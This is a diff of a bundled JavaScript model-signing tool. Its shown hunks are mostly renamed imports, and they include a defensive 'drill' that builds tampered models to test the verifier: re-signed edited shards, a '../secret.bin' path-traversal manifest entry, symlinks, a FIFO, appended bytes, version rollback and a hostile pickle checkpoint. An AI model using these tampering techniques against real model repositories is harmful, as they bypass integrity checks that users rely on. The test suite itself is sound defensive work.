         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "untrusted-key");
+          const m2 = path22.join(ctx.tmp, "untrusted-key");
           await writeModel(m2, 7);
           const kp = generateKeyPairSync2("ed25519");
           await signDrillModel(m2, { priv: kp.privateKey, pub: kp.publicKey });
@@ -60631,7 +60878,7 @@ var init_attacks = __esm({
         title: "the signature file removed",
         needs: [],
         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "missing-signature");
+          const m2 = path22.join(ctx.tmp, "missing-signature");
           await writeModel(m2, 8);
           return { model: m2 };
         }
@@ -60643,13 +60890,13 @@ var init_attacks = __esm({
         async build(ctx) {
           const m2 = await ctx.copyBase("edited-payload");
           const evil = safetensorsShard("a.weight", filler(64 * 1024, 666));
-          await writeFile4(path21.join(m2, SHARD_1), evil);
+          await writeFile4(path22.join(m2, SHARD_1), evil);
           const { bundle, statement } = await readSigned(m2);
           const r = statement.predicate.resources.find((x) => x.name === SHARD_1);
           r.digest = sha256(evil);
           statement.subject[0].digest.sha256 = rootDigest(statement.predicate.resources);
           bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString("base64");
-          await writeFile4(path21.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
+          await writeFile4(path22.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
           return { model: m2 };
         }
       },
@@ -60659,7 +60906,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("two-manifests");
-          await writeFile4(path21.join(m2, "modeling_llama.py"), "import os\n");
+          await writeFile4(path22.join(m2, "modeling_llama.py"), "import os\n");
           const { statement } = await readSigned(m2);
           const evil = JSON.parse(JSON.stringify(statement));
           evil.predicate.resources.push({ name: "modeling_llama.py", algorithm: "sha256", digest: sha256("import os\n") });
@@ -60673,7 +60920,7 @@ var init_attacks = __esm({
         title: 'signed manifest names "../secret.bin", a file outside the model with the signed digest',
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path21.join(ctx.tmp, "secret.bin");
+          const outside = path22.join(ctx.tmp, "secret.bin");
           await writeFile4(outside, "outside the model\n");
           return { model: await signedWithExtraResource(ctx, "traversal", { name: "../secret.bin", digest: sha256("outside the model\n") }) };
         }
@@ -60683,7 +60930,7 @@ var init_attacks = __esm({
         title: "signed manifest names an absolute path outside the model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path21.join(ctx.tmp, "secret-abs.bin");
+          const outside = path22.join(ctx.tmp, "secret-abs.bin");
           await writeFile4(outside, "outside the model (absolute)\n");
           return { model: await signedWithExtraResource(ctx, "absolute-path", { name: outside, digest: sha256("outside the model (absolute)\n") }) };
         }
@@ -60694,10 +60941,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-out");
-          const outside = path21.join(ctx.tmp, "config-copy.json");
-          await copyFile(path21.join(m2, "config.json"), outside);
-          await rm2(path21.join(m2, "config.json"));
-          await symlink(outside, path21.join(m2, "config.json"));
+          const outside = path22.join(ctx.tmp, "config-copy.json");
+          await copyFile(path22.join(m2, "config.json"), outside);
+          await rm2(path22.join(m2, "config.json"));
+          await symlink(outside, path22.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -60707,10 +60954,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-in");
-          await mkdir4(path21.join(m2, ".git"));
-          await copyFile(path21.join(m2, "config.json"), path21.join(m2, ".git", "config.json"));
-          await rm2(path21.join(m2, "config.json"));
-          await symlink(path21.join(".git", "config.json"), path21.join(m2, "config.json"));
+          await mkdir4(path22.join(m2, ".git"));
+          await copyFile(path22.join(m2, "config.json"), path22.join(m2, ".git", "config.json"));
+          await rm2(path22.join(m2, "config.json"));
+          await symlink(path22.join(".git", "config.json"), path22.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -60720,7 +60967,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature", "fifo"],
         async build(ctx) {
           const m2 = await ctx.copyBase("fifo");
-          execFileSync("mkfifo", [path21.join(m2, "pipe.bin")]);
+          execFileSync("mkfifo", [path22.join(m2, "pipe.bin")]);
           return { model: m2 };
         }
       },
@@ -60730,7 +60977,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("appended-bytes");
-          await appendFile(path21.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
+          await appendFile(path22.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
           return { model: m2 };
         }
       },
@@ -60739,9 +60986,9 @@ var init_attacks = __esm({
         title: "an older signed version presented after a newer one was verified (version rollback)",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const stateFile = path21.join(ctx.tmp, "rollback-state.json");
+          const stateFile = path22.join(ctx.tmp, "rollback-state.json");
           const setup = { storeDir: await emptyStore(ctx, "rollback-store"), stateFile };
-          const newer = path21.join(ctx.tmp, "rollback-newer");
+          const newer = path22.join(ctx.tmp, "rollback-newer");
           await writeModel(newer, 21);
           await signDrillModel(newer, ctx.signer, { version: "2.0.0", license: ctx.licenses.allowed });
           const r = await ctx.verify(newer, setup);
@@ -60756,12 +61003,12 @@ var init_attacks = __esm({
         title: "a correctly signed fine-tune of a revoked base model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const parentBundle = await readFile(path21.join(ctx.base, "model.sig"));
+          const parentBundle = await readFile(path22.join(ctx.base, "model.sig"));
           const { statement } = await readSigned(ctx.base);
           const parentDigest = `sha256:${statement.subject[0].digest.sha256}`;
-          const storeDir = path21.join(ctx.tmp, "revoked-store");
+          const storeDir = path22.join(ctx.tmp, "revoked-store");
           await recordBundle(storeDir, { name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest }, parentBundle);
-          const m2 = path21.join(ctx.tmp, "revoked-ancestor");
+          const m2 = path22.join(ctx.tmp, "revoked-ancestor");
           await writeModel(m2, 31);
           const lineage = { parents: [{ name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest, bundleDigest: bundleDigestOf(parentBundle), relation: "finetune" }] };
           await signDrillModel(m2, ctx.signer, { name: "drill-finetune", license: ctx.licenses.allowed, extra: { lineage } });
@@ -60775,7 +61022,7 @@ var init_attacks = __esm({
         async build(ctx) {
           const lic = ctx.licenses.outside;
           if (lic === void 0) throw new AttackNotApplicable("the policy allows every license the drill tried (it has no license rule that refuses one)");
-          const m2 = path21.join(ctx.tmp, "license-outside-policy");
+          const m2 = path22.join(ctx.tmp, "license-outside-policy");
           await writeModel(m2, 41);
           await signDrillModel(m2, ctx.signer, { license: lic });
           return { model: m2 };
@@ -60787,9 +61034,9 @@ var init_attacks = __esm({
         // No feature need: a set-up without scanning (policy formats) accepts it, and that is MISSED.
         needs: ["trusted-signature"],
         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "hostile-pickle");
+          const m2 = path22.join(ctx.tmp, "hostile-pickle");
           await writeModel(m2, 51);
-          await writeFile4(path21.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
+          await writeFile4(path22.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
           await signDrillModel(m2, ctx.signer, { license: ctx.licenses.allowed });
           return { model: m2 };
         }
@@ -60801,13 +61048,13 @@ var init_attacks = __esm({
 // src/drill/run.ts
 import { cp, mkdir as mkdir5, mkdtemp as mkdtemp2, rm as rm3 } from "node:fs/promises";
 import os6 from "node:os";
-import path22 from "node:path";
+import path23 from "node:path";
 async function runDrill(opts) {
-  const tmp = await mkdtemp2(path22.join(os6.tmpdir(), "modelsign-drill-"));
+  const tmp = await mkdtemp2(path23.join(os6.tmpdir(), "modelsign-drill-"));
   try {
-    const base2 = path22.join(tmp, "base-model");
+    const base2 = path23.join(tmp, "base-model");
     await writeModel(base2, 1);
-    const store = path22.join(tmp, "lineage-store");
+    const store = path23.join(tmp, "lineage-store");
     await mkdir5(store);
     const defaultSetup = { storeDir: store };
     let baseline;
@@ -60831,7 +61078,7 @@ async function runDrill(opts) {
       ...opts.signer ? { signer: opts.signer } : {},
       base: base2,
       copyBase: async (name2) => {
-        const dest = path22.join(tmp, name2);
+        const dest = path23.join(tmp, name2);
         await cp(base2, dest, { recursive: true });
         return dest;
       },
@@ -60897,7 +61144,7 @@ var init_run = __esm({
 });
 
 // src/drill/verifier.ts
-import path23 from "node:path";
+import path24 from "node:path";
 async function pickLicenses(policy, purpose) {
   const rule = policy?.rules[purpose];
   if (!policy || policy.license === void 0 || !rule) return { allowed: DEFAULT_DRILL_LICENSE };
@@ -60926,13 +61173,13 @@ async function drillVerifier(cfg) {
   } else {
     const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
     const file = policy.file;
-    trust = await policyTrust2(policy.trust, (f2) => path23.relative(path23.dirname(file), f2));
+    trust = await policyTrust2(policy.trust, (f2) => path24.relative(path24.dirname(file), f2));
     trustDesc = `trust section of ${cfg.policy}`;
   }
   if (trust.length === 0) throw usage("MISSING_OPTION", `drill needs something to trust: the policy ${cfg.policy} trusts nobody, so give --key PUBLIC_KEY`);
   const [{ lineageStage: lineageStage2, openStore: openStore2 }, { policyStage: policyStage2 }, { formatsStages: formatsStages2 }, { verifyModel: verifyModel2 }] = await Promise.all([
     Promise.resolve().then(() => (init_lineage(), lineage_exports)),
-    Promise.resolve().then(() => (init_stage(), stage_exports)),
+    Promise.resolve().then(() => (init_stage2(), stage_exports)),
     Promise.resolve().then(() => (init_formats(), formats_exports)),
     Promise.resolve().then(() => (init_pipeline(), pipeline_exports))
   ]);
@@ -62876,17 +63123,17 @@ var init_index = __esm({
     init_statement();
     init_dsse();
     init_serialize();
-    init_enumerate();
+    init_walk();
     init_version();
     init_sign();
     init_trust_key();
     init_pipeline();
     init_load();
-    init_stage();
+    init_stage2();
     init_trust();
     init_licenses();
     init_scan_path();
-    init_stage2();
+    init_stage3();
     init_lineage();
     init_archive();
     init_append();
@@ -63064,7 +63311,7 @@ async function prepareLineage(model, o) {
     loaded2 = await loadParents2(parents, trust);
   }
   const { defaultModelName: defaultModelName2 } = await Promise.resolve().then(() => (init_sign(), sign_exports));
-  const childName = o.name ?? defaultModelName2(model);
+  const childName = o.name ?? await defaultModelName2(model);
   const meta = buildLineageMeta2({ parents: loaded2, relations, datasets, childName, childVersion: o.version ?? "" });
   const childMeta = (r) => {
     const m2 = r.statement.subject[0].annotations?.modelsign;
@@ -63237,7 +63484,7 @@ init_io();
 init_report();
 import { mkdtempSync, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
 import os7 from "node:os";
-import path24 from "node:path";
+import path25 from "node:path";
 
 // src/cli/verify-key.ts
 init_io();
@@ -63257,7 +63504,7 @@ var keyPlugin = {
 // src/cli/verify-policy.ts
 init_esm();
 init_errors();
-import path13 from "node:path";
+import path8 from "node:path";
 var CLI_TRUST_FLAGS = ["key", "certificateChain", "identity", "identityRegexp", "identityRegExp", "certificateIdentity", "certificateIdentityRegexp"];
 var loaded = /* @__PURE__ */ new WeakMap();
 function cliTrustGiven(flags) {
@@ -63291,12 +63538,12 @@ Policy (exit 1 when it refuses the model: license, revoked, minimum version, for
     const policy = loaded.get(flags);
     if (!policy?.trust || cliTrustGiven(flags)) return [];
     const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
-    return policyTrust2(policy.trust, (f2) => path13.relative(path13.dirname(policy.file), f2));
+    return policyTrust2(policy.trust, (f2) => path8.relative(path8.dirname(policy.file), f2));
   },
   async stages(flags) {
     const policy = loaded.get(flags);
     if (!policy) return [];
-    const { policyStage: policyStage2 } = await Promise.resolve().then(() => (init_stage(), stage_exports));
+    const { policyStage: policyStage2 } = await Promise.resolve().then(() => (init_stage2(), stage_exports));
     const { formatsStages: formatsStages2 } = await Promise.resolve().then(() => (init_formats(), formats_exports));
     return [policyStage2(policy, flags.purpose ?? "deploy"), ...await formatsStages2(policy.formats)];
   }
@@ -63554,28 +63801,28 @@ var podPlugin = {
 
 // src/cli/verify-audit.ts
 init_errors();
-import path17 from "node:path";
+import path19 from "node:path";
 function str2(v2) {
   return typeof v2 === "string" ? v2 : null;
 }
 function base(model, flags) {
   return {
     time: (/* @__PURE__ */ new Date()).toISOString(),
-    model: path17.resolve(model),
-    signature: str2(flags.signature) ? path17.resolve(flags.signature) : null,
+    model: path19.resolve(model),
+    signature: str2(flags.signature) ? path19.resolve(flags.signature) : null,
     rootDigest: null,
     name: null,
     version: null,
     signer: null,
     // Flags other plugins own; recorded when they are present.
-    policy: str2(flags.policy) ? path17.resolve(flags.policy) : null,
+    policy: str2(flags.policy) ? path19.resolve(flags.policy) : null,
     purpose: str2(flags.purpose)
   };
 }
 function decisionFromResult(flags, r) {
   return {
     ...base(r.model, flags),
-    signature: path17.resolve(r.signature),
+    signature: path19.resolve(r.signature),
     rootDigest: r.rootDigest ? `sha256:${r.rootDigest}` : null,
     name: r.metadata?.name ?? r.subjectName ?? null,
     version: r.metadata?.version ?? null,
@@ -63778,9 +64025,9 @@ function keyPaths(r, cleanup, secret) {
   const raw = r.input("key");
   if (!raw.includes("-----BEGIN")) return r.listInput("key");
   if (secret) r.mask(raw);
-  const dir = mkdtempSync(path24.join(process.env.RUNNER_TEMP || os7.tmpdir(), "modelsign-key-"));
+  const dir = mkdtempSync(path25.join(process.env.RUNNER_TEMP || os7.tmpdir(), "modelsign-key-"));
   cleanup.dirs.push(dir);
-  const file = path24.join(dir, secret ? "signing.key" : "trusted.pub");
+  const file = path25.join(dir, secret ? "signing.key" : "trusted.pub");
   writeFileSync2(file, raw.endsWith("\n") ? raw : `${raw}
 `, { mode: 384 });
   return [file];
